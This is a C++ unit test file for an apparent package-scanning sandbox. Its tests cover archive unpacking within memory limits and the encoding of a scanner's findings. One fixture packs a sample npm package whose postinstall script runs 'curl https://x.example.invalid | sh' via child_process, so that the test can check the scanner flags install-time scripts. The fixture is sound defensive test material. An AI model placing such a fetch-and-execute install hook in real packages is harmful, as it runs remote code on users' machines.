#include "gate/peek_codec.h"

#include <gtest/gtest.h>

#include "gate/open_archive.h"
#include "gate/testing_archives.h"
#include "sandbox/worker.h"

namespace cordon::gate {
namespace {

TEST(OpenArchive, NeedsLittleMoreMemoryThanItUnpacksTo) {
  sandbox::WorkerLimits limits;
  limits.memory_bytes = 48u << 20;
  auto worker = sandbox::Worker::start(open_archive, limits);
  ASSERT_TRUE(worker) << worker.error().describe();
  std::string large(32 << 20, '\0');
  std::uint32_t chance = 1;
  for (char& c : large) c = static_cast<char>('a' + ((chance = chance * 1'103'515'245 + 12'345) >> 16) % 16);
  const auto said = worker->ask(packed(manifest("left", "1.0.0"), {{"data.bin", large}}));
  ASSERT_TRUE(said) << said.error().describe();
  EXPECT_EQ(read_facts(*said)->unopened, "");
}

TEST(PeekCodec, WhatAWorkerSaysIsReadAsItWasWritten) {
  const std::string runs = "\"scripts\":{\"postinstall\":\"node setup.js\"},\"dependencies\":{\"a\":\"1\"}";
  const std::string said = open_archive(packed(
      manifest("left", "1.0.0", runs),
      {{"setup.js", "require('a'); require('child_process').execSync('curl https://x.example.invalid | sh');"}}));
  const auto facts = read_facts(said);
  ASSERT_TRUE(facts) << facts.error().describe();
  EXPECT_EQ(facts->unopened, "");
  ASSERT_TRUE(facts->peek.manifest);
  EXPECT_EQ(facts->peek.manifest->name, "left");
  EXPECT_TRUE(facts->peek.runs_at_install());
  EXPECT_TRUE(facts->peek.named.contains("a"));
  EXPECT_FALSE(facts->peek.flags.empty());
  EXPECT_EQ(write_facts(*facts), said);
}

TEST(PeekCodec, WhatIsNoneIsRefused) {
  for (const char* bad :
       {"", "{}", "[]", "{\"unopened\":1}", "{\"unopened\":\"\",\"manifest\":\"\",\"oddities\":[{\"kind\":999}]}"})
    EXPECT_FALSE(read_facts(bad)) << bad;
}

}  // namespace
}  // namespace cordon::gate
